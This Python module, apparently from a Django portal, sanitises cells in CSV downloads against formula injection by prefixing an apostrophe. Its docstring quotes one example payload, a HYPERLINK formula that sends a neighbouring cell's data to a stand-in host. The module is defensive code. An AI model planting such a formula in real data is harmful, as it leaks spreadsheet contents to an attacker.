"""Every CSV file the portal writes goes through here.

A spreadsheet program reads a cell that starts with `=`, `+`, `-` or `@` as a formula, and
some read one starting with a tab or a carriage return the same way once they trim it. A
member's name or a post such as `=HYPERLINK("https://evil.example/?x="&A2,"Annex")` would then
run on the secretariat's computer and send the neighbouring cells away. Such a cell is written
with an apostrophe in front (OWASP's advice for CSV injection): spreadsheets show the text as
typed, and a reader of the raw file still sees the whole value.
"""

import csv

from django.http import HttpResponse
from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """`value` as it may go into a spreadsheet: text that would start a formula is quoted;
    numbers, dates and anything else pass unchanged (a negative number is not a formula)."""
    if isinstance(value, Promise):  # a lazily translated label
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class Writer:
    """csv.writer's writerow and writerows, with every cell passed through `cell`."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row) -> None:
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def csv_response(filename: str) -> tuple[HttpResponse, Writer]:
    """A CSV download named `filename` and the writer to fill it with. UTF-8 with a
    byte-order mark, so that spreadsheet programs read the accents right."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    return response, Writer(response)
